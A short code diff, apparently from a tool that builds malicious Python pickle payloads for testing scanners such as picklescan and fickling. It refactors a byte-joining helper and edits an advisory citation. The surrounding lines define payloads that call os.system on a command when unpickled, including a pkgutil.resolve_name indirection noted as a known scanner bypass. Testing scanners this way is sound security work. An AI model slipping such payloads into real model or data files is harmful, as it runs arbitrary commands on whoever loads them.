@@ -20,6 +20,7 @@ from .builders import (
     named,
     new,
     number,
+    sequence,
     text,
 )
 from .rows import fragment, gadget
@@ -31,15 +32,11 @@ LAZY: Final = calling("builtins:map", SYSTEM, listing(COMMAND))
 """A map object: runs the command when somebody reads it."""
 
 
-def sequence(*fragments: bytes) -> bytes:
-    return b"".join(fragments)
-
-
 INDIRECT: Final = (
     fragment(
         "resolve_name",
         call(calling("pkgutil:resolve_name", text("os:system")), COMMAND),
-        known="picklescan and fickling advisories of 2025",
+        known="picklescan advisories of 2025",
     ),
     fragment(
         "dunder_import_and_getattr",
